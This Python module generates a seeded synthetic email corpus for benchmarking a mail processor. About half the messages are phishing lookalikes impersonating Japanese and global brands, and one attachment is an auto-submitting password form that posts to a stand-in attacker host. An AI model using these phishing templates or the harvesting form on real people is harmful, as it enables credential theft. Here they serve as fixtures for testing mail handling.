"""Generated mail for `make bench`: a realistic corpus when ../shared/corpora is absent, and the
big messages of the memory row. Deterministic (seeded), written only under a directory the
caller gives (bench/*.tmp or a temporary directory), never into the repository proper.

Shapes follow what the dev corpus holds: Japanese brand phishing in ISO-2022-JP / UTF-8 / Shift_JIS,
HTML-only marketing mail with many links, plain-text list mail, multipart/alternative with an
attachment, 3–9 Received hops with real-looking dates.
"""
from __future__ import annotations

import base64
import os
import random
from email.header import Header
from email.utils import format_datetime
import datetime as dt

BRANDS = [("Amazon", "アマゾン", "amazon.co.jp"), ("楽天カード", "楽天", "rakuten-card.co.jp"),
          ("三井住友カード", "SMBC", "smbc-card.com"), ("KAGOYA", "カゴヤ", "kagoya.jp"),
          ("えきねっと", "JR東日本", "eki-net.com"), ("Apple", "アップル", "apple.com"),
          ("PayPal", "ペイパル", "paypal.com"), ("メルカリ", "Mercari", "mercari.com")]
WORDS_JA = ["お客様のアカウントは一時的に停止されました。", "24時間以内にログインして情報を更新してください。",
            "ご利用のカードに不正利用の可能性があります。", "本メールは送信専用です。",
            "お支払い方法の確認をお願いいたします。", "詳細は以下のリンクからご確認ください。",
            "いつもご利用いただきありがとうございます。", "会議の資料を添付いたします。ご確認ください。",
            "来週の打ち合わせの日程について、ご都合をお知らせください。"]
WORDS_EN = ["Your account has been suspended.", "Please verify your information within 24 hours.",
            "Thanks for the patch, applied to the tree.", "The meeting notes are attached.",
            "Click below to update your payment method.", "This is an automated message.",
            "I tested this on my machine and it works fine.", "Unsubscribe from this list."]
TLDS = ["com", "net", "top", "xyz", "shop", "co.jp", "jp", "org", "info", "cn"]


def _rand_domain(rng: random.Random) -> str:
    name = "".join(rng.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(rng.randint(5, 11)))
    return f"{name}.{rng.choice(TLDS)}"


def _received(rng: random.Random, hops: int, when: dt.datetime) -> list[str]:
    out = []
    for i in range(hops):
        ip = f"{rng.randint(11, 220)}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
        helo = rng.choice(["mail", "smtp", "mx", "out", "Praisemmm"]) + str(rng.randint(1, 99))
        by = f"mx{rng.randint(1, 9)}.{_rand_domain(rng)}"
        t = when + dt.timedelta(seconds=5 * (hops - i))
        out.append(f"from {helo}.{_rand_domain(rng)} ({helo}.cloudapp.azure.com [{ip}])\n"
                   f"\tby {by} (Postfix) with ESMTPS id {rng.randrange(16**10):010X}\n"
                   f"\tfor <user@example.co.jp>; {format_datetime(t)}")
    return out


def _headers(rng: random.Random, subject: str, display: str, domain: str, ctype: str, when: dt.datetime,
             charset: str = "utf-8", phish: bool = True) -> str:
    lines = [f"Received: {r}" for r in _received(rng, rng.randint(3, 9), when)]
    if not phish:
        lines = [l.replace("cloudapp.azure.com", f"mail.{domain}") for l in lines]
    auth = "spf=softfail smtp.mailfrom={0}; dkim=none; dmarc=fail" if phish else \
        "spf=pass smtp.mailfrom={0}; dkim=pass header.d={0}; dmarc=pass header.from={0}"
    lines += [
        "Authentication-Results: mx.example.co.jp; " + auth.format(domain),
        f"From: {Header(display, charset).encode()} <info@{domain}>",
        "To: user@example.co.jp",
        f"Subject: {Header(subject, charset).encode()}",
        f"Date: {format_datetime(when)}",
        f"Message-ID: <{rng.randrange(16**16):016x}@{domain}>",
        f"Return-Path: <bounce@{_rand_domain(rng)}>",
        "MIME-Version: 1.0",
        f"Content-Type: {ctype}",
    ]
    return "\n".join(lines) + "\n"


def _html(rng: random.Random, brand: tuple, links: int, paragraphs: int, phish: bool = True) -> str:
    body = [f"<html><head><style>p{{color:#333}}</style></head><body><h1>{brand[0]}</h1><table>"]
    for i in range(paragraphs):
        text = rng.choice(WORDS_JA + WORDS_EN)
        body.append(f"<tr><td><p>{text}</p></td></tr>")
        if i < links:
            host = rng.choice([brand[2], _rand_domain(rng), f"{brand[0].lower()}.{_rand_domain(rng)}"]) if phish \
                else rng.choice([brand[2], f"www.{brand[2]}"])
            body.append(f'<tr><td><a href="https://{host}/login/verify?id={rng.randrange(10**9)}">'
                        f"https://{brand[2]}/account</a></td></tr>")
    body.append("</table></body></html>")
    return "\n".join(body)


def one_message(rng: random.Random, i: int) -> bytes:
    brand = rng.choice(BRANDS)
    when = dt.datetime(2025, 1, 1, tzinfo=dt.timezone(dt.timedelta(hours=9))) + dt.timedelta(minutes=37 * i)
    phish = rng.random() < 0.5
    domain = _rand_domain(rng) if phish else brand[2]
    kind = rng.choice(["plain_jis", "html", "alternative", "plain_en", "attachment", "sjis"])
    subject = f"【{brand[0]}】" + rng.choice(["アカウント確認のお願い", "ご利用確認", "重要なお知らせ", "Re: meeting"])
    hdr = lambda subj, disp, ctype, cs="utf-8": _headers(rng, subj, disp, domain, ctype, when, cs, phish)  # noqa: E731
    if kind == "plain_jis" or kind == "sjis":
        charset = "iso-2022-jp" if kind == "plain_jis" else "shift_jis"
        text = "\n".join(rng.choice(WORDS_JA) for _ in range(rng.randint(5, 40)))
        text += (f"\nhttps://{domain}/{brand[0].lower()}/login?user=user@example.co.jp\n" if phish
                 else f"\nhttps://www.{domain}/support\n")
        head = hdr(subject, brand[0], f'text/plain; charset="{charset}"')
        enc = "7bit" if charset == "iso-2022-jp" else "base64"
        data = text.encode(charset, "replace")
        body = data.decode("ascii") if enc == "7bit" else base64.encodebytes(data).decode("ascii")
        return (head + f"Content-Transfer-Encoding: {enc}\n\n" + body).encode("ascii", "replace")
    if kind == "plain_en":
        text = "\n".join(rng.choice(WORDS_EN) for _ in range(rng.randint(10, 80)))
        text += f"\n\nhttps://lists.{_rand_domain(rng)}/mailman/listinfo/devel\n"
        head = hdr("Re: [PATCH] fix the build", "Developer", "text/plain; charset=us-ascii")
        return (head + "\n" + text + "\n").encode("utf-8")
    html = _html(rng, brand, rng.randint(2, 40), rng.randint(10, 120), phish)
    if kind == "html":
        head = hdr(subject, brand[0], 'text/html; charset="utf-8"')
        return (head + "Content-Transfer-Encoding: base64\n\n" + base64.encodebytes(html.encode()).decode()).encode()
    boundary = f"=_b{rng.randrange(10**12)}"
    head = hdr(subject, brand[0], f'multipart/mixed; boundary="{boundary}"')
    parts = [f"--{boundary}\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: base64\n\n"
             + base64.encodebytes("\n".join(rng.choice(WORDS_JA) for _ in range(8)).encode()).decode(),
             f"--{boundary}\nContent-Type: text/html; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n"
             + html.replace("=", "=3D") + "\n"]
    if kind == "attachment":
        blob = rng.randbytes(rng.randint(2_000, 60_000))
        name = rng.choice(["invoice.pdf", "請求書.pdf.exe", "document.html", "photo.jpg"])
        parts.append(f'--{boundary}\nContent-Type: application/octet-stream; name="{name}"\n'
                     f'Content-Disposition: attachment; filename="{name}"\nContent-Transfer-Encoding: base64\n\n'
                     + base64.encodebytes(blob).decode())
    return (head + "\n" + "\n".join(parts) + f"\n--{boundary}--\n").encode("utf-8")


def write_corpus(directory: str, count: int = 1200, seed: int = 7) -> list[str]:
    rng = random.Random(seed)
    os.makedirs(directory, exist_ok=True)
    paths = []
    for i in range(count):
        path = os.path.join(directory, f"gen_{i:05d}.eml")
        with open(path, "wb") as fh:
            fh.write(one_message(rng, i))
        paths.append(path)
    return paths


def attachment_heavy(target_bytes: int = 25_000_000, seed: int = 25) -> bytes:
    """A 25 MB mail: a short text, an HTML part, then big base64 attachments (PDF, ZIP, images, an HTML form)."""
    rng = random.Random(seed)
    boundary = "=_big_attachments"
    when = dt.datetime(2025, 6, 1, 9, 0, tzinfo=dt.timezone.utc)
    head = _headers(rng, "【請求書】ご確認ください", "経理部", "example-invoice.com",
                    f'multipart/mixed; boundary="{boundary}"', when)
    out = [head, "\n", f"--{boundary}\nContent-Type: text/plain; charset=utf-8\n\n請求書を添付します。\n"]
    out.append(f"--{boundary}\nContent-Type: text/html; charset=utf-8\n\n" + _html(rng, BRANDS[0], 20, 60) + "\n")
    form = ('<html><body><form action="https://evil.example.net/collect" method="post">'
            '<input type="password" name="pw"><script>document.forms[0].submit()</script></form></body></html>')
    out.append(f'--{boundary}\nContent-Type: text/html; name="login.html"\nContent-Disposition: attachment; '
               f'filename="login.html"\nContent-Transfer-Encoding: base64\n\n'
               + base64.encodebytes(form.encode()).decode())
    size = sum(len(x) for x in out)
    names = ["scan_001.pdf", "archive.zip", "photo_1.jpg", "photo_2.png", "report.docm", "data.xlsx"]
    i = 0
    while size < target_bytes:
        chunk = min(4_000_000, int((target_bytes - size) * 0.74) + 1000)
        name = names[i % len(names)]
        magic = {"pdf": b"%PDF-1.7\n", "zip": b"PK\x03\x04", "jpg": b"\xff\xd8\xff\xe0", "png": b"\x89PNG\r\n\x1a\n"}
        blob = magic.get(name.rsplit(".", 1)[1], b"PK\x03\x04") + rng.randbytes(chunk)
        part = (f'--{boundary}\nContent-Type: application/octet-stream; name="{name}"\n'
                f'Content-Disposition: attachment; filename="{name}"\nContent-Transfer-Encoding: base64\n\n'
                + base64.encodebytes(blob).decode())
        out.append(part)
        size += len(part)
        i += 1
    out.append(f"--{boundary}--\n")
    return "".join(out).encode("utf-8")


def big_html(target_bytes: int = 5_000_000, seed: int = 5) -> bytes:
    """A 5 MB HTML newsletter: nested tables, inline styles, thousands of links and images."""
    rng = random.Random(seed)
    when = dt.datetime(2025, 6, 1, 9, 0, tzinfo=dt.timezone.utc)
    head = _headers(rng, "今週のおすすめ商品", "楽天市場", "rakuten.co.jp", 'text/html; charset="utf-8"', when)
    rows = ['<html><head><meta charset="utf-8"><style>td{font-family:sans-serif}</style></head><body><table width="100%">']
    size = len(head)
    n = 0
    while size < target_bytes:
        host = rng.choice(["item.rakuten.co.jp", "r10.to", _rand_domain(rng), "image.rakuten.co.jp"])
        row = (f'<tr><td style="padding:4px;border:1px solid #ddd"><a href="https://{host}/shop/{n}?scid=wi_{rng.randrange(10**6)}">'
               f'<img src="https://image.rakuten.co.jp/img/{n}.jpg" alt="商品{n}" width="120"></a></td>'
               f'<td><p>{rng.choice(WORDS_JA)} 商品番号 {n}</p><p>{rng.choice(WORDS_EN)}</p></td></tr>\n')
        rows.append(row)
        size += len(row.encode())
        n += 1
    rows.append("</table></body></html>\n")
    return (head + "Content-Transfer-Encoding: 8bit\n\n").encode() + "".join(rows).encode("utf-8")


if __name__ == "__main__":
    import sys
    target = sys.argv[1] if len(sys.argv) > 1 else "bench/corpus.tmp"
    print(len(write_corpus(target)), "messages in", target)
